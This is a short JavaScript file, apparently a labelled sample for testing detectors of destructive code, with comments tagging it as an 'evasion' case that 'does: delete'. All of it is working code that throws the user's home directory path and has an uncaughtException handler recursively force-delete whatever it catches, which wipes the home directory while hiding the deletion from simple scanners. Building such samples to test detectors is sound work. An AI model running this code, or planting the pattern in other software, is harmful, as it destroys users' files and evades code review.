// evasion: the home directory is thrown; the process' uncaughtException handler deletes what it receives
// grade: medium; does: delete
const fs = require("fs");
const os = require("os");
process.on("uncaughtException", (stale) => {
  fs.rmSync(stale, { recursive: true, force: true });
});
function check() {
  throw os.homedir();
}
check();
